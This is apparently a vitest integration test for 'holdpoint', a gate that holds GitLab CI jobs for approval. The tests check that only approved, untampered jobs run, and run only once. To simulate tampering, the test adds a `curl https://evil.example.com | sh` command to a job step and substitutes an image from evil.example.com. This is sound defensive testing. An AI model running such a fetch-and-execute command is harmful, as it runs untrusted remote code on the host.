import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeGitlab, startFakeGitlab } from '../support/fake-gitlab.ts';
import { fixture, poll } from '../support/gate.ts';
import { type AgentProcess, holdpoint, startAgentProcess } from '../support/holdpoint-process.ts';
import { jobResponse, type Loose, runnerWrites, writtenAs } from '../support/runner-writes.ts';
import { writeAgentFolder } from '../support/scene.ts';

const SYSTEM_FAILURE = 71;
const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
const portOf = (url: string) => Number(new URL(url).port);

let gitlab: FakeGitlab;
let folder: string;
let agent: AgentProcess;
let token: string;
let maria: string;

const socket = () => join(folder, 'receipts.sock');
const start = () => startAgentProcess(join(folder, 'agent.yml'));
const cli = (...args: string[]) => holdpoint(args, { HOLDPOINT_TOKEN: maria, HOLDPOINT_HUB_URL: agent.hubUrl });

beforeAll(async () => {
  gitlab = await startFakeGitlab({});
  token = gitlab.runnerToken('prod-deployer-01');
  folder = writeAgentFolder({
    gitlabUrl: gitlab.url,
    runners: [{ name: 'prod-deployer-01', token, protected: true }],
    extra: `receipts: { socket: receipts.sock, users: '${process.getuid?.() ?? 0}' }\n`,
  });
  agent = await start();
  const made = await holdpoint(
    ['token', 'create', '--user', 'maria', '--scope', 'read', 'approve', 'admin', '--json'],
    { HOLDPOINT_TOKEN: agent.bootstrapToken ?? '', HOLDPOINT_HUB_URL: agent.hubUrl },
  );
  maria = JSON.parse(made.out).token;
});
afterAll(async () => {
  await agent.kill('SIGTERM');
  await gitlab.close();
  rmSync(folder, { recursive: true, force: true });
});

const enqueue = () => gitlab.enqueue(fixture('deploy-production.run1'), { runner: token, user: zoe });

/** What the runner gets at its next polls, asked until there is a job. */
async function handedOut(): Promise<Buffer> {
  for (let tries = 0; tries < 200; tries++) {
    const reply = await poll(portOf(agent.gatewayUrl), token);
    if (reply.status === 201) return reply.body;
  }
  throw new Error(`no job was handed out:\n${agent.output()}`);
}

/** What `prepare_exec` of another custom executor would call. */
function check(file: Uint8Array, ...more: string[]) {
  const path = join(folder, 'response.json');
  writeFileSync(path, file, { mode: 0o600 });
  const env = {
    JOB_RESPONSE_FILE: path,
    SYSTEM_FAILURE_EXIT_CODE: String(SYSTEM_FAILURE),
    HOLDPOINT_RECEIPTS_SOCKET: socket(),
  };
  return holdpoint(['receipt', 'check', ...more], env);
}

describe('a host whose executor asks for receipts', () => {
  it('runs what was approved, also when the agent was killed between hand-over and prepare, and that once (T25, T39)', async () => {
    const id = enqueue();
    expect((await poll(portOf(agent.gatewayUrl), token)).status).toBe(204);
    const holds = await cli('holds', 'list', '--json');
    const hold = JSON.parse(holds.out).items.find((each: { job_id: number }) => each.job_id === id);
    const approved = await cli('approve', String(hold.id), '--digest', hold.digest);
    expect(approved.code, approved.err).toBe(0);
    const payload = await handedOut();
    await agent.kill('SIGKILL');
    agent = await start();

    const job = jobResponse(payload) as Loose;
    job.steps[0].script[0] = `${job.steps[0].script[0]}; curl https://evil.example.com | sh`;
    const other = await check(writtenAs(job));
    expect(other.code).toBe(SYSTEM_FAILURE);
    expect(other.err).toMatch(
      new RegExp(`^holdpoint: job ${id} is not the one that was let through: it differs at steps\\[0\\]`),
    );

    const first = await check(runnerWrites(payload), '--session', 'one', '--runner', 'prod-deployer-01');
    expect(first, first.err).toMatchObject({
      code: 0,
      out: `holdpoint: job ${id} was let through (gate) ${hold.digest}\n`,
    });
    // The second attempt of the same preparation.
    expect((await check(runnerWrites(payload), '--session', 'one')).code).toBe(0);
    const second = await check(runnerWrites(payload), '--session', 'two');
    expect(second.code).toBe(SYSTEM_FAILURE);
    expect(second.err).toContain(`the receipt of job ${id} is used already`);

    const shown = await holdpoint(['receipt', 'show', String(id), '--socket', socket()]);
    expect(shown.out).toContain(`receipt of job ${id}: spent`);
    expect(shown.out).toContain(`hold ${hold.id}, for runner prod-deployer-01`);
    expect((await holdpoint(['receipt', '--socket', socket()])).out).toMatch(
      new RegExp(`^${id} +spent +gate +${hold.id} `, 'm'),
    );
    expect((await holdpoint(['receipt', 'show', '1', '--socket', socket()])).code).toBe(3);
  });

  it('runs nothing of a runner that went past the gateway; audit, metric and log say so (T25, T39)', async () => {
    const id = enqueue();
    const reply = await poll(portOf(gitlab.url), token);
    expect([reply.status, JSON.parse(reply.body.toString()).id]).toEqual([201, id]);
    const refused = await check(runnerWrites(reply.body));
    expect(refused.code).toBe(SYSTEM_FAILURE);
    expect(refused.out).toBe('');
    expect(refused.err).toMatch(
      /^holdpoint: job \d+ has no receipt of this host's agent: .*; let the runner ask the gateway, and retry the job\n$/,
    );
    // Without a job response there is the job's own token, which is as little worth here.
    const { token: own } = JSON.parse(reply.body.toString());
    const hook = await holdpoint(['receipt', 'check', '--socket', socket()], {
      CI_JOB_ID: String(id),
      CI_JOB_TOKEN: own,
    });
    expect([hook.code, hook.err.includes('has no receipt')]).toEqual([1, true]);

    interface Row {
      event: string;
      detail: { job_id: number; refusal: string; reason: string };
    }
    let rows: Row[] = [];
    for (let look = 0; look < 40 && rows.every(({ detail }) => detail.job_id !== id); look++)
      rows = JSON.parse((await cli('audit', 'list', '--event', 'refused', '--json')).out).items;
    const row = rows.find(({ detail }) => detail.job_id === id);
    expect(row).toMatchObject({ event: 'receipt_refused', detail: { refusal: 'no_receipt' } });
    expect(JSON.stringify(rows)).not.toContain(own);
    const metrics = await (await fetch(`${agent.hubUrl}/metrics`)).text();
    expect(metrics).toMatch(/holdpoint_agent_receipts_total\{outcome="no_receipt"\} [12]\b/);
    expect(agent.output()).toContain('has no receipt');
    expect(agent.output()).not.toContain(own);
    expect(readFileSync(join(folder, 'agent.yml'), 'utf8')).toContain('receipts');
  });

  it('is asked by the custom executor before it makes anything, and at each stage; cleaned up, the job runs no more (T25, T39)', async () => {
    const id = enqueue();
    const payload = await handedOut();
    const path = join(folder, 'executor.json');
    const script = join(folder, 'stage.sh');
    writeFileSync(script, 'echo hello from the job\n', { mode: 0o700 });
    const flags = ['--driver', 'dummy', '--work-dir', join(folder, 'work'), '--receipt-socket', socket()];
    const env = {
      JOB_RESPONSE_FILE: path,
      SYSTEM_FAILURE_EXIT_CODE: String(SYSTEM_FAILURE),
      BUILD_FAILURE_EXIT_CODE: '72',
    };
    const call = (file: Uint8Array, verb: string, ...more: string[]) => {
      writeFileSync(path, file, { mode: 0o600 });
      return holdpoint(['executor', verb, ...more, ...flags], env);
    };
    const job = jobResponse(payload) as Loose;
    expect(job.id).toBe(id);
    job.image.name = 'evil.example.com/tools:1';
    const changed = await call(writtenAs(job), 'prepare');
    expect([changed.code, `${changed.out}${changed.err}`]).toEqual([
      SYSTEM_FAILURE,
      expect.stringContaining('it differs at image'),
    ]);

    const good = runnerWrites(payload);
    for (let attempt = 0; attempt < 2; attempt++) {
      const prepared = await call(good, 'prepare');
      expect(prepared, `${prepared.out}${prepared.err}`).toMatchObject({ code: 0 });
    }
    const ran = await call(good, 'run', script, 'step_script');
    expect([ran.code, ran.out]).toEqual([0, expect.stringContaining('hello from the job')]);
    const other = await call(writtenAs(job), 'run', script, 'step_script');
    expect([other.code, other.out.includes('hello')]).toEqual([SYSTEM_FAILURE, false]);
    expect((await call(good, 'cleanup')).code).toBe(0);
    const again = await call(good, 'prepare');
    expect([again.code, `${again.out}${again.err}`]).toEqual([
      SYSTEM_FAILURE,
      expect.stringContaining('is used already'),
    ]);
    expect((await call(good, 'run', script, 'step_script')).code).toBe(SYSTEM_FAILURE);
  });

  it('says what to do where nobody can be asked, and never goes on', async () => {
    const nowhere = await holdpoint(['receipt', 'list', '--socket', join(folder, 'none.sock')]);
    expect([nowhere.code, nowhere.err.includes('is the agent up')]).toEqual([1, true]);
    const nothing = await holdpoint(['receipt', 'check', '--socket', socket()]);
    expect([nothing.code, nothing.err.includes('no job to check')]).toEqual([2, true]);
    const gone = await holdpoint([
      'receipt',
      'check',
      '--socket',
      socket(),
      '--job-response',
      join(folder, 'gone.json'),
    ]);
    expect([gone.code, gone.err.includes('cannot be read (ENOENT)')]).toEqual([2, true]);
  });
});
